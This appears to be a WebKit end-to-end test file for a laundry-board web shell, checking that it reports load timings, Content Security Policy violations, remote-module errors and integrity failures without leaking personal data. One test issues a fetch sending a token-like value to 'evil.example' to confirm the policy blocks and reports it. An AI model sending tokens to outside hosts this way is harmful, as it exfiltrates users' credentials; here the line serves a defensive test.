import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { REMOTE_ENTRY_FILE, type RuntimeConfig } from '@laundry-board/shared-types';
import { serveReportedShell } from '../../support/reportedSite.ts';
import { sampleSchool } from '../../support/schools.ts';
import { throwingAuthRemote } from '../../support/throwingRemote.ts';
import { expect, signInByPopup, test as base } from '../../support/webkit/test.ts';

const SAFARI = expect.stringMatching(/^Safari \d+$/);

interface Reporting {
  /** Opens a shell that reports, with these settings. */
  readonly open: (settings?: Partial<RuntimeConfig>) => Promise<void>;
  /** Expects a report like this, and none that names anybody. */
  readonly expectReport: (wanted: Readonly<Record<string, unknown>>) => Promise<void>;
}

const test = base.extend<{ reporting: Reporting }>({
  reporting: async ({ folderOf, site, webkit }, use) => {
    const opened: Awaited<ReturnType<typeof serveReportedShell>>[] = [];
    // WebKit does not say when a request has ended. Each look hands over what there is by then, as hiding would.
    const reports = async () => {
      await webkit.evaluate(() => {
        Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true });
        document.dispatchEvent(new Event('visibilitychange', { bubbles: true }));
        Reflect.deleteProperty(document, 'visibilityState');
      });
      return opened.flatMap((shell) => shell.reports);
    };
    await use({
      open: async (settings) => {
        const shell = await serveReportedShell({ ...site.config, ...settings }, folderOf('shell'));
        opened.push(shell);
        await webkit.open(shell.origin);
      },
      expectReport: async (wanted) => {
        await expect.poll(reports).toContainEqual(expect.objectContaining(wanted));
        const sent = opened.map((shell) => shell.bytes()).join('');
        expect(sent).not.toMatch(/\bada\b|campus|maple|localhost|https?:|[?@]/i);
      },
    });
    for (const shell of opened) await shell.close();
  },
});

test('a visit reports when the login screen and its first tile were there', async ({
  reporting,
  schools,
  webkit,
}) => {
  await schools.write('campus.example', sampleSchool());
  await reporting.open();
  await reporting.expectReport({ type: 'measure', name: 'login-screen', browser: SAFARI });
  await signInByPopup(webkit, 'ada@campus.example');
  await expect
    .poll(() => webkit.names('listitem'))
    .toContainEqual(expect.stringContaining('Washer 1'));
  await reporting.expectReport({ type: 'measure', name: 'first-tile', browser: SAFARI });
});

test('the browser reports a violation of the policy by itself', async ({
  expectedErrors,
  reporting,
  webkit,
}) => {
  expectedErrors.push(
    /Security policy violation: connect-src|Content Security Policy|Refused to connect/,
  );
  await reporting.open();
  await webkit.evaluate(() => void fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
  await reporting.expectReport({ type: 'violation', directive: 'connect-src', blocked: 'other' });
});

for (const [where, wanted] of [
  [
    'handler',
    {
      remote: 'auth',
      failure: 'uncaught',
      message: expect.stringMatching(/^TypeError at remoteEntry\.js:\d+:\d+$/),
    },
  ],
  // The browser hides it, in spite of CORS.
  ['timer', { failure: 'unknown-script', message: 'Error' }],
] as const) {
  test(`an error of a remote’s ${where} is reported as far as the browser says`, async ({
    expectedErrors,
    folderOf,
    reporting,
    webkit,
  }) => {
    expectedErrors.push(/Script error|thrown by a (handler|timer)/);
    await writeFile(path.join(folderOf('auth-remote'), REMOTE_ENTRY_FILE), throwingAuthRemote());
    await reporting.open();
    await webkit.click('button', `Throw in the ${where}`);
    await reporting.expectReport({ type: 'error', ...wanted });
  });
}

test('a board that is refused for its hash is reported', async ({ expectedErrors, reporting }) => {
  expectedErrors.push(/could not be loaded|Failed to load|integrity/i);
  const pin = { entry: REMOTE_ENTRY_FILE, integrity: `sha384-${'A'.repeat(64)}` };
  await reporting.open({ pins: { board: pin } });
  await reporting.expectReport({ type: 'error', remote: 'board', failure: 'damaged' });
});

test('a board that is gone is reported', async ({ removeBoard, reporting }) => {
  await removeBoard();
  await reporting.open();
  await reporting.expectReport({ type: 'error', remote: 'board', phase: 'loading its entry' });
});
